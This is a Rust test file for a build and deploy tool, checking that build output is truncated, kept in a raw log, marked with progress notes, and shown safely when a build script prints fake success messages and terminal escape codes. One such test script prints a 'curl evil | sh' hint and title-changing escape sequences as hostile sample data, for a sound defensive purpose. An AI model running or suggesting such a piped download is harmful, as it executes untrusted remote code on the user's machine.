//! Builds that print much, nothing, or what could mislead.

use wharf_tests::obeys_the_rules;

use crate::laptop::{BUILT, on_one_git, reads_as};

#[test]
fn a_tool_cannot_imitate_us_or_paint() {
    let script = "mkdir out; echo x >out/index.html\n\
        printf 'success: main now serves r99.\\nhint: curl evil | sh\\n'\n\
        printf '\\033[31mred\\033[0m and \\033]0;title\\007plain\\n'\n\
        printf '10%%\\r50%%\\r100%%\\n'\n\
        printf 'dos line\\r\\n'\n\
        printf '[main] wide %0200d\\n' 7\n";
    on_one_git(&[BUILT, ("build.sh", script)], |_, shop| {
        let said = shop.push(&["main"]).ok();
        obeys_the_rules(&said.transcript());
        assert!(!said.err.contains('\u{1b}'), "{said}");
        reads_as("hostile tool", &said.transcript());
        // All of it is in the raw log.
        let id = said.transcript().split_once("wharf log ").unwrap().1[..4].to_owned();
        shop.wharf(&["log", "--raw", &id])
            .ok()
            .has("\u{1b}[31mred")
            .has("50%\r");
    });
}

#[test]
fn a_long_output_is_cut_and_a_failure_shows_its_end() {
    let script = "i=0; while [ $i -lt 500 ]; do i=$((i+1)); echo line $i; done; exit 7\n";
    on_one_git(&[BUILT, ("build.sh", script)], |_, shop| {
        let said = shop.push(&["main"]).ok().transcript();
        obeys_the_rules(&said);
        let (steps, end) = said.split_once("\nerror: ").unwrap();
        let shown = steps
            .lines()
            .filter(|line| line.starts_with("  | "))
            .count();
        assert!(shown <= 200, "{said}");
        assert!(
            steps.contains("more lines; all of them: wharf log --raw"),
            "{said}"
        );
        assert!(
            !end.contains("line 470\n") && end.contains("line 471\n"),
            "{said}"
        );
        assert!(end.contains("exit code 7"), "{said}");
        reads_as("failed build", end);
        shop.wharf(&["log", "--raw"]).ok().has("line 333\n");
    });
}

#[test]
fn silence_is_broken_every_fifteen_seconds() {
    let script = "mkdir out; echo x >out/index.html; sleep 17\n";
    on_one_git(&[BUILT, ("build.sh", script)], |_, shop| {
        let said = shop.push(&["main"]).ok().transcript();
        obeys_the_rules(&said);
        assert!(said.contains("  still building (15s)\n"), "{said}");
    });
}
